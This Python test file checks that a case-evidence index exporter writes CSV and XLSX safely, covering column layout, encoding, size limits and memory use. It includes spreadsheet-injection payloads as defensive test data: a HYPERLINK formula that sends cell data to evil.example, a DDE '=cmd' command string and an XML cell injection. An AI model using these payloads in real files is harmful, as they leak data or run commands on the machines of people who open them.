"""The case index as CSV and XLSX: read back with csv and openpyxl, hostile values defused, bounded memory."""

from __future__ import annotations

import csv
import os
import re
import tracemalloc
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, overload

import openpyxl
import pytest

from vestige.errors import InputError
from vestige.exports.exhibit import Exhibit, ExhibitArtifact
from vestige.exports.tables import HEADERS, XLSX_MAX_CELL, write_index_csv, write_index_xlsx

HOSTILE = {
    "newlines": "one\r\ntwo\nthree\rfour",
    "thorn and dc4": "þorn\x14x",
    "quotes and commas": 'He said "stop", then, left',
    "cyrillic": "Обстріл Харкова — відео",
    "arabic": "قصف المدينة ليلاً",
    "emoji": "💥 🇺🇦 👩‍👩‍👧",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1 555 0100",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "inner formula": "a =1+1",
    "controls": "nul\x00 bel\x07 esc\x1b",
    "escape lookalike": "_x0000_ and _x0041_",
    "xml": "<b>&amp;</b>",
    # XlsxWriter copies a string shaped like this into the sheet unescaped in constant_memory mode.
    "rich text injection": (
        '<r><t>x</t></r></is></c><c r="T1"><f>1+1</f></c><c r="U1" t="inlineStr"><is><r><t>y</t></r>'
    ),
    "long url": "https://example.org/?q=" + "a" * 10_000,
}
RISKY = ("=", "+", "-", "@", "\t", "\r")
COL = {name: i for i, name in enumerate(HEADERS)}


def artifact(role: str, name: str, path: str, seed: str, member: str | None = None) -> ExhibitArtifact:
    return ExhibitArtifact(
        role, name, "application/octet-stream", 1, seed * 64, seed * 32, path, Path("/none"), member
    )


def capture(x: str = "UKR1-0001", **values: Any) -> Exhibit:
    arts = (
        artifact("warc", "capture.warc.gz", f"WACZ/{x}.wacz", "0", "archive/capture.warc.gz"),
        artifact("screenshot", "screenshot.png", f"NATIVES/{x}/screenshot.png", "5"),
        artifact("pdf", "page.pdf", f"IMAGES/{x}.pdf", "7"),
        artifact("dom", "dom.html", f"NATIVES/{x}/dom.html", "9"),
    )
    fields: dict[str, Any] = {
        "exhibit_id": x,
        "item_id": x,
        "case": "UKR1",
        "kind": "capture",
        "title": "Shelling of Kharkiv",
        "url": "https://example.org/news/1",
        "final_url": "https://example.org/news/1?amp",
        "state": "partial",
        "reason": "the network did not go quiet",
        "http_status": 200,
        "started": "2026-11-24T09:33:21.046593Z",
        "ended": "2026-11-24T09:33:40Z",
        "operator": "Olena K.",
        "platform": "telegram",
        "author": "@channel",
        "artifacts": arts,
    }
    fields.update(values)
    return Exhibit(**fields)


def added_file(x: str = "UKR1-0002") -> Exhibit:
    arts = (artifact("file", "statement.docx", f"NATIVES/{x}/statement.docx", "e"),)
    empty = ("url", "final_url", "reason", "http_status", "started", "ended", "platform", "author")
    return capture(
        x, kind="file", title="statement.docx", state="complete", artifacts=arts, **dict.fromkeys(empty)
    )


def hostile_exhibits() -> list[Exhibit]:
    return [
        capture(f"UKR1-{i:04d}", title=v, url=v, author=v, operator=v)
        for i, v in enumerate(HOSTILE.values(), 1)
    ]


def expected_text(value: str | None) -> str:
    """What the CSV holds for a value: an apostrophe before a formula start, U+FFFD for a lone surrogate."""
    if value is None:
        return ""
    value = re.sub("[\ud800-\udfff]", "\ufffd", value)
    return "'" + value if value.startswith(RISKY) else value


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def xlsx_text(value: str) -> str:
    """Undo the ECMA-376 _xHHHH_ escape that openpyxl leaves in place (Excel and LibreOffice undo it)."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


# CSV


def test_csv_columns_and_values(tmp_path: Path) -> None:
    out = tmp_path / "index.csv"
    write_index_csv([capture(), added_file()], out)
    header, first, second = read_csv(out)
    assert tuple(header) == HEADERS
    row = dict(zip(HEADERS, first, strict=True))
    assert row["Exhibit ID"] == "UKR1-0001"
    assert row["Captured (UTC)"] == "2026-11-24T09:33:21.046593Z"
    assert row["HTTP status"] == "200"
    assert row["Files"].split(";") == [
        "WACZ/UKR1-0001.wacz",
        "NATIVES/UKR1-0001/screenshot.png",
        "IMAGES/UKR1-0001.pdf",
        "NATIVES/UKR1-0001/dom.html",
    ]
    assert row["Hashed artifact"] == "archive/capture.warc.gz in WACZ/UKR1-0001.wacz"
    assert (row["SHA-256"], row["BLAKE3"]) == ("0" * 64, "0" * 32)
    assert (row["Screenshot SHA-256"], row["Screenshot BLAKE3"]) == ("5" * 64, "5" * 32)
    assert row["Author"] == "'@channel"  # a Twitter-style handle starts with @, a formula prefix
    added = dict(zip(HEADERS, second, strict=True))
    assert added["Hashed artifact"] == "NATIVES/UKR1-0002/statement.docx"
    assert added["SHA-256"] == "e" * 64
    assert (
        added["URL"] == added["HTTP status"] == added["Captured (UTC)"] == added["Screenshot SHA-256"] == ""
    )


def test_csv_bytes_bom_and_crlf(tmp_path: Path) -> None:
    out = tmp_path / "index.csv"
    write_index_csv([capture(title="Обстріл")], out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfExhibit ID,Item ID,")
    assert raw.endswith(b"\r\n")
    assert raw.count(b"\r\n") == 2 and b"\n" not in raw.replace(b"\r\n", b"")
    assert "Обстріл".encode() in raw
    # Read without utf-8-sig, the BOM stays on the first header: the reason to document it.
    with out.open(encoding="utf-8", newline="") as fh:
        assert next(csv.reader(fh))[0] == "\ufeffExhibit ID"


def test_csv_hostile_values_round_trip(tmp_path: Path) -> None:
    exhibits = [*hostile_exhibits(), capture("UKR1-0099", title="lone \ud800 half")]
    out = tmp_path / "index.csv"
    write_index_csv(exhibits, out)
    _header, *rows = read_csv(out)
    assert len(rows) == len(exhibits)
    for exhibit, row in zip(exhibits, rows, strict=True):
        assert len(row) == len(HEADERS)
        for column in ("Title", "URL", "Author", "Operator"):
            value = getattr(
                exhibit, {"Title": "title", "URL": "url", "Author": "author"}.get(column, "operator")
            )
            assert row[COL[column]] == expected_text(value), column
        assert not row[COL["Title"]].startswith(RISKY)


def test_csv_quoting_is_rfc4180(tmp_path: Path) -> None:
    out = tmp_path / "index.csv"
    write_index_csv([capture(title='a "b", c', url="line\r\nbreak")], out)
    record = out.read_bytes().split(b"\r\n", 1)[1]
    assert b',"a ""b"", c",' in record
    assert b',"line\r\nbreak",' in record


# XLSX


def test_xlsx_values_types_and_layout(tmp_path: Path) -> None:
    out = tmp_path / "index.xlsx"
    write_index_xlsx([capture(), added_file()], out, title="Case UKR1: index", created="2026-11-24T09:33:21Z")
    book = openpyxl.load_workbook(out)
    sheet = book.active
    assert sheet.title == "Index"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(HEADERS))}3"
    assert tuple(c.value for c in sheet[1]) == HEADERS
    assert all(c.font.b for c in sheet[1])
    row = {h: c for h, c in zip(HEADERS, sheet[2], strict=True)}
    for column in ("SHA-256", "BLAKE3", "Screenshot SHA-256", "Screenshot BLAKE3", "Exhibit ID"):
        assert row[column].data_type == "s" and row[column].number_format == "@"
    assert row["SHA-256"].value == "0" * 64
    assert row["HTTP status"].value == 200 and row["HTTP status"].data_type == "n"
    assert row["Captured (UTC)"].value == "2026-11-24T09:33:21.046593Z"
    assert row["Author"].value == "@channel" and row["Author"].quotePrefix
    assert not row["Title"].quotePrefix
    assert sheet.column_dimensions["O"].width > 64  # SHA-256 fits
    second = {h: c.value for h, c in zip(HEADERS, sheet[3], strict=True)}
    assert second["URL"] is None and second["HTTP status"] is None
    assert book.properties.title == "Case UKR1: index"
    assert book.properties.created == datetime(2026, 11, 24, 9, 33, 21)


def test_xlsx_hostile_values_are_strings_never_formulas(tmp_path: Path) -> None:
    exhibits = [*hostile_exhibits(), capture("UKR1-0099", title="lone \ud800 half")]
    out = tmp_path / "index.xlsx"
    write_index_xlsx(exhibits, out, title="=cmd|' /C calc'!A0", created="2026-11-24T09:33:21Z")
    xml = sheet_xml(out)
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(out).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(exhibits)
    for exhibit, row in zip(exhibits, rows, strict=True):
        assert all(cell.data_type != "f" for cell in row)
        for column, value in (("Title", exhibit.title), ("URL", exhibit.url), ("Operator", exhibit.operator)):
            cell = row[COL[column]]
            assert cell.data_type == "s"
            expected = re.sub("[\ud800-\udfff]", "\ufffd", value or "")
            assert xlsx_text(cell.value) == expected, column
            assert bool(cell.quotePrefix) == expected.startswith(RISKY)


def test_xlsx_cuts_values_longer_than_excel_holds(tmp_path: Path) -> None:
    out = tmp_path / "index.xlsx"
    write_index_xlsx([capture(title="😀" * 20_000, url="u" * 40_000)], out, title="t")
    row = next(openpyxl.load_workbook(out).active.iter_rows(min_row=2, values_only=True))
    title, url = row[COL["Title"]], row[COL["URL"]]
    assert isinstance(title, str) and isinstance(url, str)
    assert url.startswith("u" * 30_000) and url.endswith(" [cut: 40000 characters in all]")
    assert len(url) <= XLSX_MAX_CELL
    assert title.endswith(" [cut: 20000 characters in all]")
    assert len(title.encode("utf-16-le")) // 2 <= XLSX_MAX_CELL


def test_xlsx_is_reproducible(tmp_path: Path) -> None:
    exhibits = hostile_exhibits()
    write_index_xlsx(exhibits, tmp_path / "a.xlsx", title="t", created="2026-11-24T11:33:21+02:00")
    old = os.umask(0o077)  # XlsxWriter's temporary files take their modes from the umask
    try:
        write_index_xlsx(
            exhibits, tmp_path / "b.xlsx", title="t", created=datetime(2026, 11, 24, 9, 33, 21, tzinfo=UTC)
        )
    finally:
        os.umask(old)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert (
            '<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-24T09:33:21Z'
            in z.read("docProps/core.xml").decode()
        )


def test_xlsx_without_a_creation_time_uses_no_clock(tmp_path: Path) -> None:
    write_index_xlsx([capture()], tmp_path / "a.xlsx", title="t")
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").properties.created == datetime(1980, 1, 1)


def test_xlsx_creation_time_must_have_a_zone(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="time zone"):
        write_index_xlsx([capture()], tmp_path / "a.xlsx", title="t", created="2026-11-24T09:33:21")
    with pytest.raises(InputError, match="invalid"):
        write_index_xlsx([capture()], tmp_path / "a.xlsx", title="t", created="tomorrow")


def test_empty_index(tmp_path: Path) -> None:
    write_index_csv([], tmp_path / "i.csv")
    write_index_xlsx([], tmp_path / "i.xlsx", title="t")
    assert read_csv(tmp_path / "i.csv") == [list(HEADERS)]
    rows = list(openpyxl.load_workbook(tmp_path / "i.xlsx").active.iter_rows(values_only=True))
    assert rows == [HEADERS]


class LazyExhibits(Sequence[Exhibit]):
    """100,000 exhibits made on demand, so the measurement is of the writer, not of the input."""

    def __init__(self, count: int) -> None:
        self.count = count

    def __len__(self) -> int:
        return self.count

    @overload
    def __getitem__(self, index: int) -> Exhibit: ...
    @overload
    def __getitem__(self, index: slice) -> Sequence[Exhibit]: ...
    def __getitem__(self, index: int | slice) -> Exhibit | Sequence[Exhibit]:
        if isinstance(index, slice):
            raise NotImplementedError
        if not 0 <= index < self.count:
            raise IndexError(index)
        return capture(f"UKR1-{index + 1:06d}", title=f"Заголовок {index} " + "ж" * 60)

    def __iter__(self) -> Iterator[Exhibit]:
        return (self[i] for i in range(self.count))


@pytest.mark.slow
def test_xlsx_memory_stays_flat_for_100000_rows(tmp_path: Path) -> None:
    # Measured: about 5.7 MB peak (most of it zipfile buffers while the zip is normalised), the same at
    # 20,000 rows as at 100,000; without constant_memory XlsxWriter would hold every cell (hundreds of MB).
    exhibits = LazyExhibits(100_000)
    tracemalloc.start()
    try:
        write_index_xlsx(exhibits, tmp_path / "big.xlsx", title="t")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 2**20
    with zipfile.ZipFile(tmp_path / "big.xlsx") as z, z.open("xl/worksheets/sheet1.xml") as fh:
        fh.seek(z.getinfo("xl/worksheets/sheet1.xml").file_size - 4000)
        tail = fh.read().decode()
    assert '<row r="100001"' in tail and "UKR1-100000" in tail
